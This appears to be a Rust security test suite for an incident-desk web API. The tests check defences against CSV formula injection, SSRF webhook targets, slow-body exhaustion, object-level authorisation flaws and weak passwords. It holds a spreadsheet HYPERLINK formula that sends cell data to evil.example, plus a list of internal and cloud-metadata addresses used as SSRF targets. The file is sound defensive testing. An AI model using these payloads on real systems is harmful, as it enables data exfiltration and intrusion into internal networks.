//! What an attacker holding an ordinary account, or none, must not be able to do, grouped by the
//! OWASP API Security Top 10 (2023) heading each probe belongs to.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::helpers::*;

// ---------------------------------------------------------------------------------------------
// API8:2023 Security misconfiguration — formula injection into the reports desks open in Excel.

#[tokio::test]
async fn csv_cells_that_would_run_as_formulas_are_inert() {
    let app = TestApp::spawn().await;
    let c = app.cast().await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"open")"#;
    app.patch(
        &format!("/api/v1/customers/{}", c.customer),
        &c.admin,
        json!({"name": formula}),
    )
    .ok()
    .await;
    closed_history(
        &app,
        &c,
        "2025-01-06T02:00:00Z",
        "2025-01-06T03:00:00Z",
        "2025-01-06T04:00:00Z",
        "resolved",
    )
    .await;
    let response = app
        .get_accepting(
            "/api/v1/reports/statistics?granularity=month&period=2025-01",
            &c.manager,
            "text/csv",
        )
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let csv = response.text().await.unwrap();
    let cells: Vec<String> = csv
        .lines()
        .flat_map(|line| {
            line.split(',')
                .map(|cell| cell.trim_matches('"').to_owned())
        })
        .collect();
    assert!(
        csv.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1"#),
        "the customer's name is not inert: {csv}"
    );
    assert!(
        cells
            .iter()
            .all(|cell| !cell.starts_with(['=', '+', '@', '\t', '\r'])),
        "{cells:?}"
    );
    // Counts stay numbers.
    assert!(cells.iter().any(|cell| cell == "1"));
}

// ---------------------------------------------------------------------------------------------
// API7:2023 Server-side request forgery — webhook targets inside the desk's network.

#[tokio::test]
async fn webhook_targets_on_internal_addresses_are_refused_at_subscription() {
    let app = TestApp::spawn().await;
    let admin = app.admin_token().await;
    let secret = "a-secret-of-sixteen+";
    for url in [
        "http://127.0.0.1:8080/hook",
        "http://localhost:9090/hook",
        "http://10.0.0.5/hook",
        "http://172.16.0.1/hook",
        "http://192.168.1.10/hook",
        "http://100.64.0.1/hook",
        "http://169.254.169.254/latest/meta-data/",
        "http://0.0.0.0/hook",
        "http://224.0.0.1/hook",
        "http://[::1]/hook",
        "http://[fc00::1]/hook",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://[fe80::1]/hook",
        "http://[ff02::1]/hook",
        "http://[::ffff:127.0.0.1]/hook",
    ] {
        let problem = app
            .post(
                "/api/v1/webhooks",
                &admin,
                json!({"url": url, "events": ["incident.created"], "secret": secret}),
            )
            .refused("validation_failed")
            .await;
        assert_eq!(problem["errors"][0]["field"], "url", "{url}");
        assert_eq!(problem["errors"][0]["code"], "forbidden_target", "{url}");
    }
    // A public target is taken, and cannot then be moved inside.
    let hook = app
        .post(
            "/api/v1/webhooks",
            &admin,
            json!({"url": "https://hooks.example.com/desk", "events": ["incident.created"],
                   "secret": secret}),
        )
        .created()
        .await;
    app.patch(
        &format!("/api/v1/webhooks/{}", hook["id"]),
        &admin,
        json!({"url": "http://169.254.169.254/latest/meta-data/"}),
    )
    .refused("validation_failed")
    .await;
}

/// A listener that counts the connections it accepts and answers each with `answer`.
async fn listener(answer: String) -> (String, Arc<AtomicUsize>) {
    let socket = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}", socket.local_addr().unwrap());
    let count = Arc::new(AtomicUsize::new(0));
    let seen = count.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = socket.accept().await {
            seen.fetch_add(1, Ordering::SeqCst);
            let answer = answer.clone();
            tokio::spawn(async move {
                let mut buffer = vec![0; 65536];
                let _ = stream.read(&mut buffer).await;
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    (address, count)
}

async fn settled_delivery(app: &TestApp, admin: &str, hook: &Value) -> Value {
    let path = format!("/api/v1/webhooks/{}/deliveries", hook["id"]);
    let mut page = Value::Null;
    for _ in 0..100 {
        page = app.get(&path, admin).ok().await;
        let first = &page["items"][0];
        if first["attempts"].as_i64().is_some_and(|n| n > 0) {
            return first.clone();
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("no delivery was attempted: {page}");
}

#[tokio::test]
async fn deliveries_check_the_target_again_and_never_follow_redirects() {
    let (inner, inner_hits) =
        listener("HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n".into()).await;
    let (bouncer, _) = listener(format!(
        "HTTP/1.1 302 Found\r\nlocation: {inner}/stolen\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
    ))
    .await;

    // Subscribed where the operator allowed internal receivers, delivered by an instance that
    // does not: the target is refused at delivery, and nothing reaches it.
    let lenient = TestApp::spawn_with(&[
        ("WEBHOOK_ALLOW_PRIVATE", "true"),
        ("WEBHOOK_POLL_INTERVAL", "60s"),
    ])
    .await;
    let c = lenient.cast().await;
    let hook = lenient
        .post(
            "/api/v1/webhooks",
            &c.admin,
            json!({"url": format!("{inner}/hook"), "events": ["incident.created"],
                   "secret": "a-secret-of-sixteen+"}),
        )
        .created()
        .await;
    let strict = TestApp::spawn_on(
        lenient.database.clone(),
        &[("WEBHOOK_POLL_INTERVAL", "50ms")],
    )
    .await;
    strict
        .create_incident(&c.desk, json!({"title": "t", "customer_id": c.customer}))
        .await;
    let delivery = settled_delivery(&strict, &c.admin, &hook).await;
    let error = delivery["attempt_log"][0]["error"].as_str().unwrap();
    assert!(error.contains("loopback"), "{delivery}");
    assert_eq!(inner_hits.load(Ordering::SeqCst), 0);

    // A receiver that answers with a redirect inward: a failed delivery with its status; the
    // redirect is not followed.
    let redirected = TestApp::spawn_with(&[
        ("WEBHOOK_ALLOW_PRIVATE", "true"),
        ("WEBHOOK_POLL_INTERVAL", "50ms"),
    ])
    .await;
    let admin = redirected.admin_token().await;
    let c = redirected.cast().await;
    let hook = redirected
        .post(
            "/api/v1/webhooks",
            &admin,
            json!({"url": format!("{bouncer}/hook"), "events": ["incident.created"],
                   "secret": "a-secret-of-sixteen+"}),
        )
        .created()
        .await;
    redirected
        .create_incident(&c.desk, json!({"title": "t", "customer_id": c.customer}))
        .await;
    let delivery = settled_delivery(&redirected, &admin, &hook).await;
    assert_eq!(delivery["attempt_log"][0]["status_code"], 302, "{delivery}");
    assert_ne!(delivery["status"], "delivered");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        inner_hits.load(Ordering::SeqCst),
        0,
        "the redirect was followed"
    );
}

// ---------------------------------------------------------------------------------------------
// API4:2023 Unrestricted resource consumption — metric series, stalled bodies.

/// The `http_requests_total` series in a metrics text.
fn request_series(metrics: &str) -> Vec<&str> {
    metrics
        .lines()
        .filter(|line| line.starts_with("incident_desk_http_requests_total{"))
        .collect()
}

#[tokio::test]
async fn invented_methods_and_paths_add_no_metric_series() {
    let app = TestApp::spawn().await;
    let app = &app;
    let junk = |i: usize| async move {
        let method = reqwest::Method::from_bytes(format!("JUNK{i}").as_bytes()).unwrap();
        app.client
            .request(method, app.url(&format!("/nothing/here/{i}")))
            .send()
            .await
            .unwrap();
        app.client
            .get(app.url(&format!("/api/v1/made-up-{i}")))
            .send()
            .await
            .unwrap();
    };
    junk(0).await;
    app.metrics().await;
    let before = app.metrics().await;
    for i in 1..30 {
        junk(i).await;
    }
    let after = app.metrics().await;
    assert_eq!(
        request_series(&before).len(),
        request_series(&after).len(),
        "{after}"
    );
    assert!(!after.contains("JUNK") && !after.contains("made-up"));
    assert!(after.contains(r#"method="other""#));
    assert!(after.contains(r#"route="unmatched""#));
}

#[tokio::test]
async fn metrics_need_the_metrics_token_when_one_is_set() {
    let app = TestApp::spawn_with(&[("METRICS_TOKEN", "scrape-me-please")]).await;
    let scrape = |token: Option<&'static str>| {
        let mut request = app.client.get(app.url("/metrics"));
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        request.send()
    };
    expect_problem(scrape(None).await.unwrap(), "unauthorized").await;
    expect_problem(scrape(Some("guess")).await.unwrap(), "unauthorized").await;
    let answer = scrape(Some("scrape-me-please")).await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    assert!(answer.text().await.unwrap().contains("incident_desk_"));
}

/// Sends `head` and then the parts of a body with `pause` between them, on one connection;
/// returns what the server answered and whether it closed the connection.
async fn raw_request(
    app: &TestApp,
    head: String,
    parts: &[&[u8]],
    pause: Duration,
) -> (String, bool) {
    let address = app.address.trim_start_matches("http://").to_owned();
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    for part in parts {
        tokio::time::sleep(pause).await;
        stream.write_all(part).await.unwrap();
    }
    let mut answer = Vec::new();
    let mut buffer = [0; 8192];
    let closed = loop {
        match tokio::time::timeout(Duration::from_secs(10), stream.read(&mut buffer)).await {
            Ok(Ok(0)) => break true,
            Ok(Ok(n)) => {
                answer.extend_from_slice(&buffer[..n]);
                let text = String::from_utf8_lossy(&answer);
                // A complete answer to a request whose body was sent whole: stop reading.
                if parts.len() > 1
                    && let Some((_, body)) = text.split_once("\r\n\r\n")
                    && body.ends_with('}')
                {
                    break false;
                }
            }
            Ok(Err(_)) => break true,
            Err(_) => break false,
        }
    };
    (String::from_utf8_lossy(&answer).into_owned(), closed)
}

#[tokio::test]
async fn a_stalled_body_is_answered_408_and_a_slow_steady_one_is_not_cut() {
    let app = TestApp::spawn_with(&[("BODY_TIMEOUT_SECS", "1")]).await;
    let started = std::time::Instant::now();
    let head = "POST /api/v1/auth/token HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
                content-length: 1000\r\n\r\n"
        .to_owned();
    let (answer, closed) = raw_request(&app, head, &[b"{\"username\":"], Duration::ZERO).await;
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("request_timeout"), "{answer}");
    assert!(closed, "the connection stays open");
    assert!(started.elapsed() < Duration::from_secs(8));

    // Two seconds in all, but never a second without a byte: answered as usual.
    let body = format!(r#"{{"username":"admin","password":"{ADMIN_PASSWORD}"}}"#);
    let head = format!(
        "POST /api/v1/auth/token HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
         content-length: {}\r\n\r\n",
        body.len()
    );
    let bytes = body.as_bytes();
    let parts: Vec<&[u8]> = bytes.chunks(bytes.len() / 4 + 1).collect();
    let (answer, _) = raw_request(&app, head, &parts, Duration::from_millis(500)).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
}

// ---------------------------------------------------------------------------------------------
// API1:2023 Broken object level authorisation — ids named in bodies, knowledge, replays.

#[tokio::test]
async fn another_organisations_configuration_item_answers_as_a_missing_one() {
    let app = TestApp::spawn().await;
    let c = app.cast().await;
    let other = app.create_customer(&c.admin, "OTHER").await;
    let foreign = app.create_ci(&c.admin, other, "his-db-other").await;
    let report = |ci_id: i64| {
        app.send(
            Method::POST,
            "/api/v1/incidents",
            Some(&c.portal),
            Some(json!({"title": "打印失败", "ci_id": ci_id})),
        )
    };
    let foreign_id = foreign["id"].as_i64().unwrap();
    let missing_id = foreign_id + 1000;
    let seen = report(foreign_id).refused("validation_failed").await;
    let missing = report(missing_id).refused("validation_failed").await;
    let text = |problem: &Value, id: i64| {
        serde_json::to_string(&problem["errors"])
            .unwrap()
            .replace(&id.to_string(), "<id>")
    };
    assert_eq!(text(&seen, foreign_id), text(&missing, missing_id));
    assert_eq!(seen["detail"], missing["detail"]);
}

#[tokio::test]
async fn customers_read_knowledge_without_author_reviewer_or_source() {
    let app = TestApp::spawn().await;
    let c = app.cast().await;
    let incident = app.resolved_incident(&c).await;
    let entry = app
        .post(
            "/api/v1/knowledge",
            &c.desk,
            json!({"title": "收费模块保存失败", "symptom": "保存处方时报错", "cause": "客户端过旧",
                   "solution": "重新部署客户端", "tags": ["收费"],
                   "source_incident_id": incident["id"]}),
        )
        .created()
        .await;
    let path = format!("/api/v1/knowledge/{}", entry["id"]);
    app.post(&format!("{path}/submit"), &c.desk, json!({}))
        .ok()
        .await;
    app.post(&format!("{path}/approve"), &c.l2, json!({}))
        .ok()
        .await;

    let staff_view = app.get(&path, &c.desk).ok().await;
    assert_eq!(staff_view["source_incident_id"], incident["id"]);
    assert!(staff_view["author_id"].is_i64() && staff_view["reviewed_by"].is_i64());
    let customer_view = app.get(&path, &c.portal).ok().await;
    let search = app.get("/api/v1/knowledge?q=收费", &c.portal).ok().await;
    for view in [&customer_view, &search["items"][0]] {
        for hidden in [
            "author_id",
            "reviewed_by",
            "reject_reason",
            "source_incident_id",
        ] {
            assert!(view.get(hidden).is_none(), "{hidden} shown: {view}");
        }
        for shown in [
            "title",
            "symptom",
            "cause",
            "solution",
            "tags",
            "created_at",
        ] {
            assert!(view.get(shown).is_some(), "{shown} missing: {view}");
        }
    }
}

#[tokio::test]
async fn a_replayed_answer_passes_the_authorisation_of_a_new_request_first() {
    let app = TestApp::spawn().await;
    let c = app.cast().await;
    let other = app.create_customer(&c.admin, "OTHER").await;
    let (user_id, desk) = app
        .create_user(&c.admin, "shift.desk", &["service_desk"], None)
        .await;
    let body = json!({"title": "挂号系统无法登录", "customer_id": c.customer,
                      "reporter": {"name": "王芳", "phone": "010-5555-0101"}});
    let (app, body) = (&app, &body);
    let send = |token: String| {
        let body = body.clone();
        async move {
            app.client
                .post(app.url("/api/v1/incidents"))
                .bearer_auth(token)
                .header("idempotency-key", "create-once-42")
                .json(&body)
                .send()
                .await
                .unwrap()
        }
    };
    let first = send(desk.clone()).await;
    assert_eq!(first.status(), StatusCode::CREATED);
    let replayed = send(desk.clone()).await;
    assert_eq!(replayed.status(), StatusCode::CREATED);
    assert_eq!(replayed.headers()["idempotent-replayed"], "true");

    // Demoted to a user of another organisation: the same retry is refused, not replayed.
    app.patch(
        &format!("/api/v1/users/{user_id}"),
        &c.admin,
        json!({"roles": ["customer"], "customer_id": other}),
    )
    .ok()
    .await;
    let refused = send(desk).await;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    assert!(refused.headers().get("idempotent-replayed").is_none());
}

// ---------------------------------------------------------------------------------------------
// API2:2023 Broken authentication — guessable passwords, locks an administrator can lift.

#[tokio::test]
async fn common_passwords_and_the_username_are_refused_passphrases_pass() {
    let app = TestApp::spawn().await;
    let admin = app.admin_token().await;
    let create = |username: &str, password: &str| {
        app.post(
            "/api/v1/users",
            &admin,
            json!({"username": username, "password": password, "display_name": "张伟",
                   "roles": ["service_desk"]}),
        )
    };
    for common in ["password", "12345678", "qwertyuiop", "Password1"] {
        let problem = create("zhang.wei", common)
            .refused("validation_failed")
            .await;
        assert_eq!(problem["errors"][0]["field"], "password", "{common}");
        assert_eq!(problem["errors"][0]["code"], "common", "{common}");
    }
    let problem = create("zhang.wei.desk", "Zhang.Wei.Desk")
        .refused("validation_failed")
        .await;
    assert_eq!(problem["errors"][0]["code"], "same_as_username");
    let user = create("zhang.wei", "门诊 夜班 交接 口令").created().await;
    let problem = app
        .patch(
            &format!("/api/v1/users/{}", user["id"]),
            &admin,
            json!({"password": "iloveyou"}),
        )
        .refused("validation_failed")
        .await;
    assert_eq!(problem["errors"][0]["code"], "common");
}

#[tokio::test]
async fn an_administrator_lifts_a_sign_in_lock_from_the_api_or_the_command_line() {
    let app = TestApp::spawn().await;
    let admin = app.admin_token().await;
    let (id, _) = app
        .create_user(&admin, "li.lei", &["service_desk"], None)
        .await;
    let sign_in = |password: &'static str| {
        app.send(
            Method::POST,
            "/api/v1/auth/token",
            None,
            Some(json!({"username": "li.lei", "password": password})),
        )
    };
    let lock = || async {
        for _ in 0..5 {
            sign_in("not-the-password").refused("unauthorized").await;
        }
        sign_in(USER_PASSWORD).refused("too_many_requests").await;
    };
    lock().await;
    let metrics = app.metrics().await;
    assert!(
        metrics.contains("incident_desk_sign_in_failures_total 5"),
        "{metrics}"
    );
    assert!(metrics.contains(r#"incident_desk_sign_in_locks_total{kind="user"} 1"#));

    app.send(
        Method::POST,
        &format!("/api/v1/users/{id}/unlock"),
        Some(&admin),
        None,
    )
    .await
    .status()
    .is_success()
    .then_some(())
    .expect("204");
    sign_in(USER_PASSWORD).ok().await;

    // Locked again, lifted from the server's command line (as for `admin` itself).
    lock().await;
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_incident-desk"))
        .args(["unlock-user", "li.lei"])
        .env("DATABASE_URL", database_url(&app.database))
        .env("RUST_LOG", "error")
        .output()
        .expect("the binary runs");
    assert!(output.status.success(), "{output:?}");
    assert!(String::from_utf8_lossy(&output.stdout).contains("may sign in again"));
    sign_in(USER_PASSWORD).ok().await;
}

// ---------------------------------------------------------------------------------------------
// API8:2023 Security misconfiguration — framing.

#[tokio::test]
async fn swagger_ui_and_the_api_refuse_to_be_framed() {
    let app = TestApp::spawn().await;
    for path in [
        "/swagger-ui/",
        "/swagger-ui/swagger-initializer.js",
        "/healthz",
    ] {
        let answer = app.send(Method::GET, path, None, None).await;
        let csp = answer.headers()["content-security-policy"]
            .to_str()
            .unwrap();
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
        assert_eq!(answer.headers()["x-frame-options"], "DENY", "{path}");
    }
    let page = app.send(Method::GET, "/swagger-ui/", None, None).await;
    let csp = page.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("script-src 'self'"), "{csp}");
}
